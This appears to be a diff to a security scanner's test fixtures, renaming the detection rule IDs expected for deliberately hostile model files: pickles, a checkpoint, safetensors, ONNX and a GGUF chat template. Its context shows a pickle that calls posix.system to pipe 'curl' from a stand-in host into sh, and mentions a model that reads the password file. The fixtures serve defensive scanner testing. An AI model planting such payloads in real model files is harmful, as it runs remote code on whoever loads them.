@@ -16,7 +16,7 @@ function callingPickle(): DemoFile {
   const command = op.text('curl -s http://192.0.2.9/stage2.sh | sh');
   const facts = [op.text('model'), plain('claims-scorer'), op.text('version'), plain('3.2.0'), op.text('threshold'), plain(0.35)];
   const bytes = stream('}(', ...facts, op.text('on_load'), reduce('posix', 'system', command), 'u');
-  return { path: `${folder}/claims_scorer.pkl`, bytes, expect: ['PKL-001'], maxVerdict: 'critical' };
+  return { path: `${folder}/claims_scorer.pkl`, bytes, expect: ['MDL-PKL-001'], maxVerdict: 'critical' };
 }
 
 /**
@@ -31,7 +31,7 @@ function hidingCheckpoint(): DemoFile {
   );
   const facts = { epoch: 12, optimiser: 'adamw', validation_loss: 0.2187 };
   const bytes = torchCheckpoint('claims_encoder', facts, claimsLayers(31), planted);
-  return { path: `${folder}/claims_encoder.pt`, bytes, expect: ['PKL-001'], maxVerdict: 'critical' };
+  return { path: `${folder}/claims_encoder.pt`, bytes, expect: ['MDL-PKL-001'], maxVerdict: 'critical' };
 }
 
 /** Two tensors that share bytes: what is checked in one is loaded as the other. */
@@ -45,7 +45,7 @@ function overlappingTensors(): DemoFile {
   const text = JSON.stringify(header);
   const padded = text.padEnd(Math.ceil(text.length / 8) * 8);
   const bytes = rawSafetensors(padded, floatBytes(weights(321, 41)));
-  return { path: `${folder}/adapter.safetensors`, bytes, expect: ['STF-003'], maxVerdict: 'high' };
+  return { path: `${folder}/adapter.safetensors`, bytes, expect: ['MDL-STF-003'], maxVerdict: 'high' };
 }
 
 /** A model whose weights are the password file of the machine that loads it. */
@@ -61,7 +61,7 @@ function climbingOnnx(): DemoFile {
     value(12, 'scores', 3),
   );
   const bytes = concat(int(1, 8), block(2, 'pytorch'), block(3, '2.4.0'), graph, block(8, block(1, ''), int(2, 17)));
-  return { path: `${folder}/document_reader.onnx`, bytes, expect: ['ONX-001', 'ONX-003'], maxVerdict: 'critical' };
+  return { path: `${folder}/document_reader.onnx`, bytes, expect: ['MDL-ONX-001', 'MDL-ONX-003'], maxVerdict: 'critical' };
 }
 
 /** A language model whose chat template climbs from an object to the interpreter (the class of CVE-2024-34359). */
@@ -82,7 +82,7 @@ function climbingTemplate(): DemoFile {
     tensors: [['token_embd.weight', [64, 6], 0, 0]],
     data: floatBytes(weights(384, 51)),
   });
-  return { path: `${folder}/claims-assistant-f32.gguf`, bytes, expect: ['TPL-001', 'TPL-002'], maxVerdict: 'critical' };
+  return { path: `${folder}/claims-assistant-f32.gguf`, bytes, expect: ['MDL-TPL-001', 'MDL-TPL-002'], maxVerdict: 'critical' };
 }
 
 /** A backup that ends in the middle of a value: nobody can say what the rest held. */
@@ -90,7 +90,7 @@ function cutPickle(): DemoFile {
   const rows = Array.from({ length: 40 }, (_, index) => [index, index * 0.25, `feature_${index}`]);
   const whole = stream('}(', op.text('model'), plain('claims-scorer'), op.text('coefficients'), plain(rows), 'u');
   const bytes = whole.slice(0, Math.floor(whole.length * 0.7));
-  return { path: `${folder}/claims_scorer_backup.pkl`, bytes, expect: ['PKL-007'], maxVerdict: 'medium' };
+  return { path: `${folder}/claims_scorer_backup.pkl`, bytes, expect: ['MDL-PKL-007'], maxVerdict: 'medium' };
 }
 
 export function hostileModels(): DemoFile[] {
